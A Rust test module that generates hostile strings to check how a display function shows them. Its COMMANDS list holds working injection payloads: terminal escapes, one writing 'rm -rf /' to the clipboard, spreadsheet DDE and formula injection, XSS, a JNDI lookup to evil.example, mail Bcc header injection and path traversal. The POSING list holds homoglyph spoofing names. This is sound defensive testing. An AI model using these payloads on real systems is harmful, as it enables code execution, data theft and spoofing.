//! A thousand hostile strings, made from Unicode's data and from what terminals, spreadsheets, pages and mail obey.
//! `tests/fixtures/visible/hostile.json` holds them with what is shown of each, for the tests of every way out.

use super::visible;
use icu_properties::props::{DefaultIgnorableCodePoint, GeneralCategory, JoiningType};
use icu_properties::{CodePointMapData, CodePointSetData};
use std::collections::BTreeSet;
use std::path::Path;

const COUNT: usize = 1_000;

/// What programs obey, where it reaches them.
const COMMANDS: [&str; 44] = [
    "\u{1b}[2J\u{1b}[HAnn",
    "\u{1b}[31mAnn\u{1b}[0m",
    "\u{1b}]0;owned\u{7}Ann",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{7}Ann",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{1b}\\Ann",
    "\u{1b}]8;;http://evil.example\u{1b}\\Ann\u{1b}]8;;\u{1b}\\",
    "\u{9b}2JAnn",
    "\u{9d}52;c;cm0=\u{9c}Ann",
    "\u{1b}P+q544e\u{1b}\\Ann",
    "\u{1b}[6nAnn",
    "\u{1b}c\u{1b}(0Ann",
    "Ann\rEve",
    "Ann\u{8}\u{8}\u{8}Eve",
    "Ann\nFORGED: a line",
    "Ann\r\nFORGED: a line",
    "Ann\u{85}FORGED: a line",
    "Ann\u{2028}FORGED: a line",
    "Ann\u{2029}FORGED: a line",
    "Ann\u{b}FORGED\u{c}FORGED",
    "Ann\r\nBcc: all@evil.example\r\n\r\nFORGED",
    "Ann\r\n Bcc: folded@evil.example",
    "Ann\nEND:VCARD\nBEGIN:VCARD\nFN:FORGED",
    "Ann\\nNOTE:FORGED;x,y",
    "=1+1",
    "  =1+1",
    "\t=1+1",
    "+49 30 1",
    "-1+1",
    "@SUM(A1)",
    "\u{ff1d}1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\"\",\"=1\",\"",
    "'",
    "\"",
    "<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "</title><svg/onload=alert(1)>",
    "<!-- ]]><x>",
    "&lt;b&gt;&#x202e;&amp;",
    "{{ 7 * 7 }}",
    "${jndi:ldap://evil.example}",
    "x&bcc=all@evil.example?subject=y",
    "../../etc/passwd\0.txt",
];

/// Names that pose as others, with the letter that does so.
const POSING: [&str; 16] = [
    "P\u{430}ul",
    "\u{391}nn",
    "b\u{3bf}b@ex.org",
    "J\u{585}hn",
    "\u{13aa}nn",
    "M\u{456}a",
    "pay\u{440}al.com",
    "ann@\u{440}\u{430}\u{443}\u{440}\u{430}.com",
    "\u{3bd}\u{3bf}.com",
    "An\u{578}",
    "\u{405}am",
    "J\u{43e}e \u{202e}eoJ",
    "\u{41a}im",
    "Omar\u{450}",
    "\u{1d00}\u{43d}n",
    "Ev\u{435}\u{200b}",
];

/// What stands round the characters that are tried one by one.
const FRAMES: [(&str, &str); 5] = [
    ("An", "n Berg"),
    ("", "Kim"),
    ("Ito", ""),
    ("م", "ن"),
    ("👩", "🚀"),
];

/// Returns the strings, each of them once.
pub(crate) fn hostile() -> Vec<String> {
    let mut all: BTreeSet<String> = COMMANDS.into_iter().map(str::to_owned).collect();
    all.extend(POSING.map(str::to_owned));
    all.insert("Ann ".repeat(500) + "\u{202e}");
    all.insert("\u{200b}".repeat(300));
    all.insert("\u{202e}\u{2066}".repeat(100));
    for marks in [4, 5, 40, 400] {
        all.insert(format!(
            "Z{}",
            "\u{351}\u{20dd}\u{489}\u{310}".repeat(marks / 4)
        ));
        all.insert(format!("ي{}", "\u{64b}".repeat(marks)));
    }
    let singles: Vec<char> = singles().into_iter().collect();
    for c in &singles {
        all.insert(format!("An{c}n Berg"));
    }
    // As many again as it takes, the same characters in other company.
    let mut more = FRAMES.iter().skip(1).flat_map(|(before, after)| {
        let pairs = singles.iter().zip(singles.iter().skip(7).step_by(3));
        pairs.map(move |(one, two)| format!("{before}{one}{two}{after}"))
    });
    while all.len() < COUNT {
        let next = more.next().expect("there are enough");
        // Nobody is called nothing.
        if !next.trim().is_empty() {
            all.insert(next);
        }
    }
    assert_eq!(
        all.len(),
        COUNT,
        "there is room for all that is tried one by one"
    );
    all.into_iter().collect()
}

/// Returns the characters that are tried one by one: all controls, all that change direction or are spaces, the ends of
/// every stretch of ignorable ones, some of every general category and of what joins.
fn singles() -> BTreeSet<char> {
    let mut found: BTreeSet<char> = ('\0'..=' ').chain('\u{7f}'..='\u{a0}').collect();
    found.remove(&' ');
    found.extend(('\u{2000}'..='\u{200f}').chain('\u{2028}'..='\u{202f}'));
    found.extend('\u{205f}'..='\u{206f}');
    found.extend(
        "\u{61c}\u{1680}\u{3000}\u{2800}\u{1d159}\u{16fe4}\u{fffc}\u{fffe}\u{10ffff}".chars(),
    );
    for range in CodePointSetData::new::<DefaultIgnorableCodePoint>().iter_ranges() {
        let (first, last) = (*range.start(), *range.end());
        found.extend(
            [first, first.midpoint(last), last]
                .into_iter()
                .filter_map(char::from_u32),
        );
    }
    let categories = CodePointMapData::<GeneralCategory>::new();
    for category in (0..30).filter_map(|number| GeneralCategory::try_from(number).ok()) {
        let members: Vec<char> = categories
            .iter_ranges_for_value(category)
            .flatten()
            .filter_map(char::from_u32)
            .collect();
        found.extend(members.iter().step_by((members.len() / 12).max(1)).copied());
    }
    let joining = CodePointMapData::<JoiningType>::new();
    for joins in [JoiningType::JoinCausing, JoiningType::LeftJoining] {
        found.extend(
            joining
                .iter_ranges_for_value(joins)
                .flatten()
                .filter_map(char::from_u32),
        );
    }
    found
}

#[test]
fn a_thousand_hostile_strings_are_shown_as_the_fixture_says() {
    let file =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/visible/hostile.json");
    let lines: Vec<String> = hostile()
        .iter()
        .map(|text| format!("[{}, {}]", ascii(text), ascii(&visible(text))))
        .collect();
    let fresh = format!("[\n{}\n]\n", lines.join(",\n"));
    if std::env::var_os("CLOSEKNIT_WRITE_TYPES").is_some() {
        std::fs::write(&file, &fresh).unwrap();
    }
    let committed = std::fs::read_to_string(&file).unwrap_or_default();
    assert!(
        fresh == committed,
        "what is shown has changed: read the difference that CLOSEKNIT_WRITE_TYPES=1 makes to {}",
        file.display()
    );
}

/// Returns a JSON string of ASCII alone.
fn ascii(text: &str) -> String {
    let mut out = String::new();
    for unit in serde_json::to_string(text).unwrap().encode_utf16() {
        match u8::try_from(unit) {
            Ok(byte) if byte.is_ascii() && byte != 0x7f => out.push(char::from(byte)),
            _ => out.push_str(&format!("\\u{unit:04x}")),
        }
    }
    out
}
